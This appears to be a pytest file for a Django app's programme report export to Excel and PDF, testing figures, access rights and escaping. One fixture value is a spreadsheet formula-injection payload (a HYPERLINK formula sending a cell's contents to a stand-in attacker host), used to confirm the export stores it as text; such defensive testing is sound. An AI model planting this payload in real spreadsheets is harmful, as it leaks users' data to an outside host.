"""The programme report as Excel and PDF: the programme page's numbers (progress, time
elapsed, gap, behind plan, the achievement table) with each project's targets, for the
viewer's projects; text that would start a formula is written as text."""

import base64
import io
import re
import zlib
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from minxin.projects.models import Programme, Project, Target
from minxin.projects.services import ProgressDraft, TargetDraft, progress_report, project_act
from tests.builders import District

from .builders import programme_new, project_new

EVIL = '=HYPERLINK("http://e.vil/?"&A2,"详情")'


def client_for(d: District, key: str) -> Client:
    client = Client()
    client.force_login(d.user(key))
    return client


def _report(d: District, target: Target, value: int) -> None:
    draft = ProgressDraft(target_id=target.pk, value=Decimal(value))
    progress_report(actor=d.user("handler"), draft=draft)


@pytest.fixture
def programme(district: District) -> Programme:
    """Two projects of one street, one of the other: 加装电梯 12 + 4 + 2 台, 惠及居民 300 户."""
    programme = programme_new(name="民心工程")
    lifts = project_new(district, programme)
    project_act(
        project_id=lifts.pk,
        action="start",
        actor=district.user("handler"),
        expected_version=None,
    )
    targets = {t.name: t for t in lifts.targets.all()}
    _report(district, targets["加装电梯"], 9)  # 75 %
    _report(district, targets["惠及居民"], 330)  # 110 %
    project_new(
        district,
        programme,
        name=EVIL,
        targets=(TargetDraft(name="加装电梯", value=Decimal(4), measure="台", unit_id=None),),
        milestones=(),
    )
    project_new(
        district,
        programme,
        name="+银杉路加装电梯",
        lead_unit_id=district.street_units[1].pk,
        assisting_unit_ids=(),
        targets=(TargetDraft(name="加装电梯", value=Decimal(2), measure="台", unit_id=None),),
        milestones=(),
    )
    return programme


def workbook(response: Any) -> Any:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def test_the_excel_report_has_the_programme_pages_numbers(
    district: District, programme: Programme
) -> None:
    client = client_for(district, "supervisor")
    book = workbook(client.get(reverse("projects:programme_report_xlsx", args=[programme.pk])))
    summary = list(book["完成情况"].iter_rows(values_only=True))
    assert "项目 3 个" in summary[2][0]
    # 加装电梯: 9 of 18 台 = 50 %; 惠及居民: 330 of 300 户 = 110 %.
    assert "加装电梯完成9台，为目标18台的50.0%" in summary[3][0]
    assert "惠及居民完成330户，为目标300户的110.0%" in summary[3][0]
    achievements = {row[0]: row for row in summary[6:]}
    assert achievements["加装电梯"][1:] == ("台", 3, 18, 9, 50.0, None, None, None)
    assert achievements["惠及居民"][1:] == ("户", 1, 300, 330, 110.0, None, None, None)

    projects = list(book["项目"].iter_rows(min_row=2, values_only=True))
    assert len(projects) == 3
    lifts = next(p for p in projects if p[1] == "景蓉小区加装电梯")
    project = Project.objects.get(name="景蓉小区加装电梯")
    assert lifts[2] == district.street_units[0].name and lifts[3] == "实施中"
    assert lifts[5] == "加装电梯：9/12台（75.0%）\n惠及居民：330/300户（110.0%）"
    assert lifts[6] == project.progress == 87.5  # each target capped at 100, then the mean
    assert lifts[8] == pytest.approx(lifts[6] - lifts[7], abs=0.11)
    # The planned end is an Excel date, not text (issue 14).
    end = next(r for r in book["项目"].iter_rows(min_row=2) if r[1].value == lifts[1])[4]
    assert end.is_date and end.number_format == "yyyy-mm-dd"
    assert end.value.date() == project.end_date

    lines = list(book["指标"].iter_rows(min_row=2, values_only=True))
    assert len(lines) == 4
    assert (
        lines[1][0],
        *lines[1][2:],
    ) == ("景蓉小区加装电梯", "惠及居民", "户", 300, 330, 110.0)


def test_text_that_would_start_a_formula_is_text_in_the_report(
    district: District, programme: Programme
) -> None:
    client = client_for(district, "supervisor")
    book = workbook(client.get(reverse("projects:programme_report_xlsx", args=[programme.pk])))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.value)
    names = {row[1] for row in book["项目"].iter_rows(min_row=2, values_only=True)}
    assert {"'" + EVIL, "'+银杉路加装电梯"} <= names


def _pdf_text(content: bytes) -> str:
    """The text drawn in a reportlab PDF with the CJK font: each page stream decoded (ASCII85,
    then deflate), its strings read as UTF-16 (the font's encoding)."""
    found = []
    for stream in re.findall(rb"stream\r?\n(.*?)endstream", content, re.S):
        data = zlib.decompress(base64.a85decode(stream.strip(), adobe=True))
        for text in re.findall(rb"\((.*?)\) Tj", data, re.S):
            raw = re.sub(rb"\\(\d{3})", lambda m: bytes([int(m[1], 8)]), text)
            raw = re.sub(rb"\\(.)", rb"\1", raw)
            found.append(raw.decode("utf-16-be", "replace"))
    return "".join(found)


def test_the_pdf_report_names_the_project_count(district: District, programme: Programme) -> None:
    client = client_for(district, "leader")
    response = client.get(reverse("projects:programme_report_pdf", args=[programme.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert "attachment" in response["Content-Disposition"]
    text = _pdf_text(response.content)
    assert "共 3 个项目" in text
    assert "景蓉小区加装电梯" in text and "50.0%" in text


def test_a_handler_gets_the_report_of_its_units_projects_only(
    district: District, programme: Programme
) -> None:
    client = client_for(district, "handler_other")
    book = workbook(client.get(reverse("projects:programme_report_xlsx", args=[programme.pk])))
    names = [row[1] for row in book["项目"].iter_rows(min_row=2, values_only=True)]
    assert names == ["'+银杉路加装电梯"]


def test_a_programme_the_viewer_cannot_see_is_404(district: District, programme: Programme) -> None:
    other = programme_new(name="另一计划")  # none of the handler's unit's projects in it
    for name in ("programme_report_xlsx", "programme_report_pdf"):
        handler = client_for(district, "handler")
        assert handler.get(reverse(f"projects:{name}", args=[other.pk])).status_code == 404
        supervisor = client_for(district, "supervisor")
        assert supervisor.get(reverse(f"projects:{name}", args=[999999])).status_code == 404
        assert Client().get(reverse(f"projects:{name}", args=[programme.pk])).status_code == 302


def test_the_programme_page_offers_the_downloads_and_the_import_to_the_office(
    district: District, programme: Programme
) -> None:
    page = client_for(district, "supervisor").get(
        reverse("projects:programme_detail", args=[programme.pk])
    )
    html = page.content.decode()
    assert reverse("projects:programme_report_xlsx", args=[programme.pk]) in html
    assert reverse("projects:programme_report_pdf", args=[programme.pk]) in html
    assert f"{reverse('imports:projects_index')}?programme={programme.pk}" in html
    handler_page = client_for(district, "handler").get(
        reverse("projects:programme_detail", args=[programme.pk])
    )
    assert "导入项目" not in handler_page.content.decode()


def test_markup_and_long_names_are_drawn_as_text_in_the_pdf(
    district: District, programme: Programme
) -> None:
    long_name = "A&B <i>不是斜体</i> " + "景蓉小区综合改造" * 12  # wraps: a paragraph, escaped
    project_new(district, programme, name=long_name, milestones=())
    client = client_for(district, "supervisor")
    response = client.get(reverse("projects:programme_report_pdf", args=[programme.pk]))
    assert response.status_code == 200
    text = _pdf_text(response.content)
    assert "共 4 个项目" in text and "A&B <i>不是斜体</i>" in text
